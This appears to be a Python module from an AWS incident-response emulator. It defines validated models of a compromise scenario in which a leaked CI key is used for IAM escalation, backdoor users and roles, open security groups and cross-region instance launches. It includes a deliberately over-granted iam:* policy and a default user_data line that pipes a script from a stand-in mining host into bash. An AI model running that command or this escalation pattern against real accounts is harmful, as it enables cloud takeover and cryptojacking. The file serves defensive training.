"""The compromise scenario model: a legitimate baseline and what an attacker does, validated.

A scenario describes a legitimate baseline (an admin, a CI user with one access key, an application
role, a few instances, a multi-region trail, GuardDuty) and what an attacker holding the CI user's
key does with it afterwards. :mod:`awsrespond.emulator.seeding` applies it to an emulator.
"""

from __future__ import annotations

import ipaddress
import re
from typing import Annotated, Any, Literal

from pydantic import AfterValidator, BaseModel, ConfigDict, Field, field_validator, model_validator

from awsrespond.emulator.server import EMULATOR_ACCOUNT_ID

ADMINISTRATOR_ACCESS = "arn:aws:iam::aws:policy/AdministratorAccess"

_REGION = re.compile(r"^[a-z]{2}(-gov|-iso[a-z]?)?-[a-z]+-\d$")
_NAME = re.compile(r"^[A-Za-z0-9+=,.@_-]{1,64}$")
_BUCKET = re.compile(r"^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$")
_SLUG = re.compile(r"^[a-z0-9][a-z0-9-]{0,62}$")
_INSTANCE_TYPE = re.compile(r"^[a-z][a-z0-9-]*\.[a-z0-9]+$")


def _default_ci_policy() -> dict[str, Any]:
    # "Limited" to deployment, with the iam:* that CI set-ups often carry for managing their own
    # users: the over-grant that lets a leaked CI key escalate.
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "Deploy",
                "Effect": "Allow",
                "Action": [
                    "s3:GetObject",
                    "s3:PutObject",
                    "s3:ListBucket",
                    "ecr:*",
                    "lambda:UpdateFunctionCode",
                    "ec2:Describe*",
                    "ec2:RunInstances",
                    "ec2:CreateTags",
                ],
                "Resource": "*",
            },
            {"Sid": "ManageServiceUsers", "Effect": "Allow", "Action": "iam:*", "Resource": "*"},
        ],
    }


class _Model(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


def _check_region(value: str) -> str:
    if not _REGION.match(value):
        raise ValueError(f"not an AWS region name: {value!r}")
    return value


def _check_name(value: str) -> str:
    if not _NAME.match(value):
        raise ValueError(f"not a valid IAM/EC2 name: {value!r}")
    return value


def _check_instance_type(value: str) -> str:
    if not _INSTANCE_TYPE.match(value):
        raise ValueError(f"not an instance type: {value!r}")
    return value


def _check_ip(value: str) -> str:
    ipaddress.ip_address(value)
    return value


RegionName = Annotated[str, AfterValidator(_check_region)]
ResourceName = Annotated[str, AfterValidator(_check_name)]
InstanceType = Annotated[str, AfterValidator(_check_instance_type)]
IpAddress = Annotated[str, AfterValidator(_check_ip)]


class InstanceGroup(_Model):
    """Legitimate instances launched together (one RunInstances)."""

    name: str = Field(description="Name tag")
    instance_type: InstanceType
    count: int = Field(default=1, ge=1, le=3)


class DataVolume(_Model):
    """A detached EBS data volume in the primary region, with a snapshot taken before the incident."""

    name: str = Field(description="Name tag")
    size_gib: int = Field(default=20, ge=1, le=1024)
    volume_type: Literal["gp2", "gp3", "io1", "st1", "sc1"] = "gp3"

    @model_validator(mode="after")
    def _size(self) -> DataVolume:
        smallest = {"io1": 4, "st1": 125, "sc1": 125}.get(self.volume_type, 1)
        if self.size_gib < smallest:
            raise ValueError(f"{self.volume_type} volumes are at least {smallest} GiB")
        return self

    @property
    def iops(self) -> int | None:
        """Provisioned IOPS (io1 needs them): 10 per GiB, within io1's limits."""
        return min(max(100, 10 * self.size_gib), 64000) if self.volume_type == "io1" else None


class Baseline(_Model):
    admin_user: ResourceName
    admin_ip: IpAddress = Field(description="Where the administrator works from")
    ci_user: ResourceName
    ci_ip: IpAddress = Field(description="Where the CI runner calls AWS from")
    ci_user_agent: str = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22"
    ci_policy_name: ResourceName
    ci_policy: dict[str, Any] = Field(default_factory=_default_ci_policy)
    app_role: ResourceName
    app_role_policy: str = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    instance_profile: ResourceName
    instances: list[InstanceGroup] = Field(min_length=1)
    web_security_group: ResourceName | None = Field(default=None, description="Allows 443 from 0.0.0.0/0")
    snapshot: bool = Field(default=False, description="An older EBS snapshot of the first instance")
    data_volume: DataVolume | None = Field(default=None, description="A data volume with an earlier snapshot")
    trail_name: ResourceName
    trail_bucket: str

    @field_validator("trail_bucket")
    @classmethod
    def _bucket(cls, value: str) -> str:
        if not _BUCKET.match(value) or ".." in value:
            raise ValueError(f"not a valid S3 bucket name: {value!r}")
        return value

    @model_validator(mode="after")
    def _instance_total(self) -> Baseline:
        total = sum(group.count for group in self.instances)
        if not 1 <= total <= 3:
            raise ValueError(f"the baseline has 1-3 instances, not {total}")
        return self


class AttackerInstances(_Model):
    """Instances the attacker launches together in one region (one RunInstances)."""

    region: RegionName
    instance_type: InstanceType
    count: int = Field(default=1, ge=1, le=10)
    termination_protection: bool = False
    security_group: bool = Field(default=False, description="Attach the attacker's open group in this region")
    key_pair: bool = Field(default=False, description="Launch with the attacker's key pair in this region")
    name: str | None = Field(default=None, description="Name tag, if the attacker sets one")


class SpotRequest(_Model):
    """A persistent spot request (moto fulfils it at once with one instance)."""

    region: RegionName
    instance_type: InstanceType
    max_price: str = "8.00"
    security_group: bool = False
    key_pair: bool = False


class KeyPair(_Model):
    name: ResourceName
    region: RegionName


class OpenSecurityGroup(_Model):
    """A security group open to 0.0.0.0/0 on ``ports`` (``all``: every protocol and port)."""

    name: ResourceName
    region: RegionName
    ports: list[int] | Literal["all"] = Field(default_factory=lambda: [22])
    description: str = "launch-wizard created 2024-01-01T00:00:00Z"

    @field_validator("ports")
    @classmethod
    def _ports(cls, value: list[int] | str) -> list[int] | str:
        if isinstance(value, list) and (not value or any(not 0 < p < 65536 for p in value)):
            raise ValueError("ports must be 'all' or a non-empty list of ports 1-65535")
        return value


class LambdaFunction(_Model):
    name: ResourceName
    region: RegionName
    role_name: ResourceName = Field(description="Execution role the attacker creates for it")
    runtime: str = "python3.12"
    environment: dict[str, str] = Field(default_factory=dict)


class CustomPolicy(_Model):
    """A customer-managed policy allowing Action "*" on Resource "*"."""

    name: ResourceName
    attach_to: Literal["user", "backdoor_role"] = "backdoor_role"


class Attacker(_Model):
    """Everything here is done with the CI user's access key, after the incident start."""

    source_ips: list[IpAddress] = Field(min_length=1, max_length=3)
    user_agent: str
    console_user_agent: str = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36"
    )
    recon: bool = Field(default=True, description="Read-only discovery calls before acting")
    user_name: ResourceName = Field(description="New IAM user with AdministratorAccess, a key and a password")
    backdoor_role: ResourceName
    external_account_id: str = Field(description="The outside account the backdoor role trusts")
    custom_policy: CustomPolicy | None = None
    instances: list[AttackerInstances] = Field(min_length=2)
    spot_requests: list[SpotRequest] = Field(min_length=1)
    key_pairs: list[KeyPair] = Field(min_length=1)
    security_groups: list[OpenSecurityGroup] = Field(min_length=1)
    lambda_functions: list[LambdaFunction] = Field(min_length=1)
    image_id: str = "ami-0f3a440bbcff3d043"
    delete_volumes: bool = Field(default=False, description="Delete the baseline's data volume (DeleteVolume)")
    user_data: str = "#!/bin/bash\ncurl -s http://pool.example.net/setup.sh | bash\n"

    @field_validator("external_account_id")
    @classmethod
    def _account(cls, value: str) -> str:
        if not re.fullmatch(r"\d{12}", value):
            raise ValueError("external_account_id must be 12 digits")
        if value == EMULATOR_ACCOUNT_ID:
            raise ValueError("external_account_id must not be the emulator's own account")
        return value

    @field_validator("image_id")
    @classmethod
    def _ami(cls, value: str) -> str:
        if not re.fullmatch(r"ami-[0-9a-f]{8,17}", value):
            raise ValueError(f"not an AMI id: {value!r}")
        return value

    @property
    def regions(self) -> list[str]:
        """Every region the attacker touches with EC2 or Lambda, in first-use order."""
        regions = [
            *(kp.region for kp in self.key_pairs),
            *(sg.region for sg in self.security_groups),
            *(group.region for group in self.instances),
            *(spot.region for spot in self.spot_requests),
            *(fn.region for fn in self.lambda_functions),
        ]
        return list(dict.fromkeys(regions))


class CostProfile(_Model):
    """The Cost Explorer curve: a quiet baseline, and attacker compute on the incident day."""

    baseline_daily_usd: float = Field(default=38.0, gt=0)
    incident_hours: float = Field(default=20.0, gt=0, le=24, description="Attacker compute billed that day")


class Scenario(_Model):
    name: str
    description: str
    company: str
    home_regions: list[RegionName] = Field(min_length=1, max_length=3)
    baseline: Baseline
    attacker: Attacker
    cost: CostProfile = Field(default_factory=CostProfile)

    @field_validator("name")
    @classmethod
    def _slug(cls, value: str) -> str:
        if not _SLUG.match(value):
            raise ValueError(f"scenario names are lower-case slugs: {value!r}")
        return value

    @field_validator("home_regions")
    @classmethod
    def _regions(cls, value: list[str]) -> list[str]:
        if len(set(value)) != len(value):
            raise ValueError("home_regions repeats a region")
        return value

    @property
    def primary_region(self) -> str:
        """Where the trail, its bucket and the baseline instances live."""
        return self.home_regions[0]

    @property
    def unused_regions(self) -> list[str]:
        """Regions the attacker uses that the company does not."""
        return [r for r in self.attacker.regions if r not in self.home_regions]

    @model_validator(mode="after")
    def _consistent(self) -> Scenario:
        attacker = self.attacker
        groups_by_region = {group.region for group in attacker.instances}
        unused = [r for r in groups_by_region if r not in self.home_regions]
        if len(unused) < 2:
            raise ValueError("the attacker launches instances in at least two regions the company does not use")
        if not any(group.termination_protection for group in attacker.instances):
            raise ValueError("at least one attacker instance group has termination protection")
        for kind, items in (("key pair", attacker.key_pairs), ("security group", attacker.security_groups)):
            regions = [item.region for item in items]
            if len(set(regions)) != len(regions):
                raise ValueError(f"at most one attacker {kind} per region")
        sg_regions = {sg.region for sg in attacker.security_groups}
        kp_regions = {kp.region for kp in attacker.key_pairs}
        launches: list[AttackerInstances | SpotRequest] = [*attacker.instances, *attacker.spot_requests]
        for launch in launches:
            if launch.security_group and launch.region not in sg_regions:
                raise ValueError(f"no attacker security group in {launch.region} to attach")
            if launch.key_pair and launch.region not in kp_regions:
                raise ValueError(f"no attacker key pair in {launch.region} to launch with")
        for sg in attacker.security_groups:
            if not any(g.security_group and g.region == sg.region for g in attacker.instances):
                raise ValueError(f"security group {sg.name} in {sg.region} is attached to no attacker instance")
        users = [self.baseline.admin_user, self.baseline.ci_user, attacker.user_name]
        if len({u.lower() for u in users}) != len(users):
            raise ValueError("admin, CI and attacker user names must differ")
        roles = [
            self.baseline.app_role,
            attacker.backdoor_role,
            *(f.role_name for f in attacker.lambda_functions),
        ]
        if len({r.lower() for r in roles}) != len(roles):
            raise ValueError("role names must differ")
        functions = [(f.region, f.name) for f in attacker.lambda_functions]
        if len(set(functions)) != len(functions):
            raise ValueError("lambda function names repeat in a region")
        if attacker.delete_volumes and self.baseline.data_volume is None:
            raise ValueError("attacker.delete_volumes needs a baseline data_volume to delete")
        policies = [self.baseline.ci_policy_name] + ([attacker.custom_policy.name] if attacker.custom_policy else [])
        if len(set(policies)) != len(policies):
            raise ValueError("policy names must differ")
        return self
